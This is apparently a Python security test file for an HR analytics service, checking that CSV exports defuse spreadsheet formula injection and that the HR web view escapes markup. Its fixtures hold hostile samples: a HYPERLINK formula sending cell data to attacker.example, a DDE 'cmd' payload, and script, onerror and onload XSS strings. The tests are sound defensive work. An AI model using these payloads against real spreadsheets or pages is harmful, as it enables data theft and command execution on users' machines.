"""Text a node ingests (department and job type names come from the employer's HR system) is
rendered back to HR: in the web view (escaped by the templates, no script allowed by the CSP)
and in the group view's CSV export, which HR opens in a spreadsheet.

A department named ``=HYPERLINK("http://…?"&A2,"open")`` was written into the CSV as is: a
spreadsheet runs it as a formula (CSV/formula injection), which can send the sheet's other
cells to another host when HR clicks, or run a command through DDE in older Excel. A label that
begins with a formula character is now written with a leading apostrophe, as OWASP advises; the
JSON view keeps the label as stored.

The web view held: a department named ``<script>…`` or ``<img onerror=…>`` is text on the page
(Jinja autoescaping, the charts' own escaping), and the CSP allows no script anyway.
"""

from __future__ import annotations

import csv
import io
import re

import numpy as np
from fastapi.testclient import TestClient

from node.api.app import create_app
from node.api.groups import GroupPolicy
from tests.security.hr_company import company, risk_model

HR = "rh_hr_key_for_the_injection_test"
FORMULAS = (
    '=HYPERLINK("http://attacker.example/?"&A2,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
)


def _app(tmp_path, departments=FORMULAS, job_type=" =1+2"):
    book = company(n=300)
    rng = np.random.default_rng(3)
    book["department"] = rng.choice(list(departments), size=len(book))
    book["job_type"] = job_type  # stored stripped: " =1+2" is "=1+2"
    return create_app(
        keys={HR: "hr"},
        model=risk_model(tmp_path / "models"),
        book=book,
        group_policy=GroupPolicy(k=11, sigma=2.0),
        rng=np.random.default_rng(0),
        hr_view=True,
    )


def test_a_label_that_is_a_formula_is_not_one_in_the_csv_export(tmp_path) -> None:
    c = TestClient(_app(tmp_path))
    r = c.get("/v1/groups", params={"by": "department,job_type", "format": "csv"}, headers={"X-API-Key": HR})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    labels = {(row[0], row[1]) for row in rows[1:]}
    assert {d for d, _ in labels} == {"'" + f for f in FORMULAS}
    assert {j for _, j in labels} == {"'=1+2"}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # the JSON view is not a spreadsheet: it keeps the stored label
    view = c.get("/v1/groups", params={"by": "department"}, headers={"X-API-Key": HR}).json()
    assert {g["values"]["department"] for g in view["groups"]} == set(FORMULAS)


def test_a_label_that_is_markup_is_text_in_the_hr_view(tmp_path) -> None:
    tags = ("<script>alert(1)</script>", '<img src=x onerror="alert(2)">', "</svg><svg onload=alert(3)>")
    c = TestClient(_app(tmp_path, departments=tags, job_type="<b>bold</b>"), follow_redirects=False)
    origin = {"Origin": "http://testserver"}
    assert c.post("/hr/login", data={"api_key": HR}, headers=origin).status_code == 303
    for by in ("department", "department,job_type"):
        csrf = re.search(r'name="csrf" value="([^"]+)"', c.get("/hr/").text).group(1)
        assert c.post("/hr/release", data={"by": by, "csrf": csrf}, headers=origin).status_code == 303
        page = c.get("/hr/", params={"by": by}).text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown, as text
        for raw in (*tags, "<b>bold</b>", "<img", "<svg onload"):
            assert raw not in page, raw
        assert "script-src" not in c.get("/hr/").headers["content-security-policy"]
